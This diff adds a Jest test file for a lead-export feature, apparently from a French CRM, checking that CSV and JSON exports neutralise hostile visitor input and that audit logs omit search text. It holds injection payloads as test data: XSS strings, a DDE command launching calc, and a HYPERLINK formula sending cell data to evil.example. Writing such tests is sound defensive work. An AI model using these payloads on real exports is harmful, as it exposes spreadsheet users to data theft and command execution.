@@ -1,0 +1,183 @@
+/** @jest-environment node */
+import { afterAll, beforeAll, beforeEach, expect, test } from "@jest/globals";
+import { mkdtempSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { embeddedSettings, makeLead } from "../../../../test-utils/leads";
+import { clearTables } from "../../../../test-utils/store-contract/engines";
+import type { Lead } from "../../lead-store";
+import { openLeadStore } from "../../open-store";
+import type { SqlLeadStore } from "../../sql-store";
+import { exportLeads, type Actor, type ExportedLead } from "..";
+
+// The export on the embedded engine, of leads written by hostile visitors: read as bytes (BOM,
+// separator, line ends, neutralised cells) and as JSON, with one audit line naming the filter
+// but never what was searched for.
+
+const folder = mkdtempSync(join(tmpdir(), "lead-export-"));
+const actor: Actor = { name: "ventes@exemple.fr", requestId: "req-7" };
+let store: SqlLeadStore;
+
+beforeAll(async () => {
+  store = await openLeadStore(embeddedSettings(join(folder, "leads")));
+});
+beforeEach(() => clearTables(store));
+afterAll(async () => {
+  await store?.close();
+  rmSync(folder, { recursive: true, force: true });
+});
+
+const long = "A".repeat(10_000);
+const hostile = makeLead({
+  firstName: "<script>alert(document.cookie)</script>",
+  lastName: '"><img src=x onerror=alert(1)>',
+  email: "-robot@exemple.fr",
+  phone: "+33 1 23 45 67 89",
+  company: '=HYPERLINK("http://evil.example/?d="&A1;"Voir")',
+  message: `@SUM(1+1)*cmd|'/C calc'!A0 javascript:alert(1) ${long}`,
+});
+const sneaky = makeLead({
+  firstName: "  =1+1",
+  lastName: '"=2+2',
+  company: "\t=3+3",
+  message: `-${long}`,
+});
+
+/** Reads CSV as a spreadsheet does: `;` between cells, quotes around them, CRLF between rows. */
+function cells(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = "";
+  let quoted = false;
+  for (let i = 0; i < text.length; i += 1) {
+    const char = text[i]!;
+    if (quoted) {
+      if (char === '"' && text[i + 1] === '"') {
+        cell += '"';
+        i += 1;
+      } else if (char === '"') quoted = false;
+      else cell += char;
+    } else if (char === '"') quoted = true;
+    else if (char === ";") {
+      row.push(cell);
+      cell = "";
+    } else if (char === "\r" && text[i + 1] === "\n") {
+      rows.push([...row, cell]);
+      row = [];
+      cell = "";
+      i += 1;
+    } else cell += char;
+  }
+  return rows;
+}
+
+/** What Excel or LibreOffice would take for a formula, leading blanks and quotes trimmed. */
+const runnable = (cell: string) => /^[\t\r\n]|^[\s"]*[=+\-@]/.test(cell);
+
+test("CSV: BOM, `;`, CRLF, a status column, and every hostile cell shown as text", async () => {
+  for (const lead of [hostile, sneaky]) await store.save(lead);
+  const file = await exportLeads(store, actor, {}, "csv");
+  expect(file.count).toBe(2);
+  expect(file.filename).toMatch(/^demandes-\d{4}-\d\d-\d\d\.csv$/);
+
+  const bytes = Buffer.from(file.body, "utf8");
+  expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+  const text = bytes.subarray(3).toString("utf8");
+  expect(text.endsWith("\r\n")).toBe(true);
+  // Every line is `"…";"…"`: quoted cells, the separator between them, nothing bare.
+  for (const line of text.split("\r\n").slice(0, -1))
+    expect(line).toMatch(/^"(?:[^"]|"")*"(?:;"(?:[^"]|"")*")*$/);
+
+  const [header, first, second] = cells(text);
+  expect(header?.at(-1)).toBe("Statut");
+  expect(header).toHaveLength(14);
+  // Oldest first, as a register reads.
+  expect(first?.[0]).toBe(hostile.id);
+  expect(second?.[0]).toBe(sneaky.id);
+  expect(first?.at(-1)).toBe("nouvelle");
+  for (const cell of [...first!, ...second!]) {
+    if (runnable(cell)) expect(cell.startsWith("'")).toBe(true);
+  }
+  expect(first).toEqual(
+    expect.arrayContaining([
+      "<script>alert(document.cookie)</script>",
+      '"><img src=x onerror=alert(1)>',
+      "'-robot@exemple.fr",
+      "'+33 1 23 45 67 89",
+      `'=HYPERLINK("http://evil.example/?d="&A1;"Voir")`,
+      `'@SUM(1+1)*cmd|'/C calc'!A0 javascript:alert(1) ${long}`,
+    ]),
+  );
+  expect(second).toEqual(expect.arrayContaining(["'  =1+1", `'"=2+2`, "'\t=3+3", `'-${long}`]));
+});
+
+test("JSON: the same fields, the same values once parsed, no `<` in its text, no BOM", async () => {
+  for (const lead of [hostile, sneaky]) await store.save(lead);
+  const file = await exportLeads(store, actor, {}, "json");
+  expect(file.filename).toMatch(/\.json$/);
+  expect(file.body.startsWith("[")).toBe(true);
+  expect(file.body).not.toMatch(/[<>]/);
+  const parsed = JSON.parse(file.body) as ExportedLead[];
+  const expected = (lead: Lead): ExportedLead => ({
+    id: lead.id,
+    receivedAt: lead.receivedAt,
+    ...lead.request,
+    deliveries: { email: "pending", ack: null, webhook: "pending" },
+    quarantine: null,
+    status: "new",
+  });
+  expect(parsed).toEqual([expected(hostile), expected(sneaky)]);
+});
+
+test("the audit line says how many, in which format, and which filter, without the searched text", async () => {
+  const claire = makeLead({ email: "claire.martin@oph-exemple.fr", firstName: "Claire" });
+  const robot = { ...makeLead(), quarantine: { reason: "trop rapide" } };
+  for (const lead of [claire, robot]) await store.save(lead);
+
+  const filtered = await exportLeads(
+    store,
+    actor,
+    { status: "new", quarantine: "none", search: "Claire" },
+    "csv",
+  );
+  expect(filtered.count).toBe(1);
+  const person = await exportLeads(store, actor, { email: "CLAIRE.MARTIN@oph-exemple.fr" }, "json");
+  expect(person.count).toBe(1);
+  const all = await exportLeads(store, actor, { quarantine: "only" }, "csv");
+  expect(all.count).toBe(1);
+
+  const { entries } = await store.auditLog({ limit: 10, offset: 0 });
+  expect(
+    entries.map(({ action, leadId, detail, actor: who, requestId }) => ({
+      action,
+      leadId,
+      detail,
+      who,
+      requestId,
+    })),
+  ).toEqual([
+    {
+      action: "export",
+      leadId: null,
+      detail: "1 demande(s) en CSV ; filtre : en quarantaine seulement",
+      who: "ventes@exemple.fr",
+      requestId: "req-7",
+    },
+    {
+      action: "export",
+      leadId: null,
+      detail: "1 demande(s) en JSON ; filtre : les demandes d'une personne, par son adresse email",
+      who: "ventes@exemple.fr",
+      requestId: "req-7",
+    },
+    {
+      action: "export",
+      leadId: null,
+      detail:
+        "1 demande(s) en CSV ; filtre : statut nouvelle, hors quarantaine, recherche par texte",
+      who: "ventes@exemple.fr",
+      requestId: "req-7",
+    },
+  ]);
+  expect(JSON.stringify(entries).toLowerCase()).not.toContain("claire");
+});
